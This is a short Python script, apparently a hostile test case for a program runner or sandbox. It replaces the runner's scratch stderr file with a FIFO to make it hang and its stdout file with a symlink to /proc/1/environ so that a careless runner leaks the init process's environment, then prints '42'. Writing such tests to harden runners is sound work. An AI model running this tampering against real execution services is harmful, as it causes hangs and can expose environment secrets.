# Hostile: replace the runner's scratch files (this program's own stdout/stderr files) by a FIFO and a
# symlink, so that a careless runner would block forever opening the FIFO or follow the link.
import os

scratch = "/tmp/.k2b"
os.unlink(f"{scratch}/err")
os.mkfifo(f"{scratch}/err")
os.unlink(f"{scratch}/out")
os.symlink("/proc/1/environ", f"{scratch}/out")
print("42")
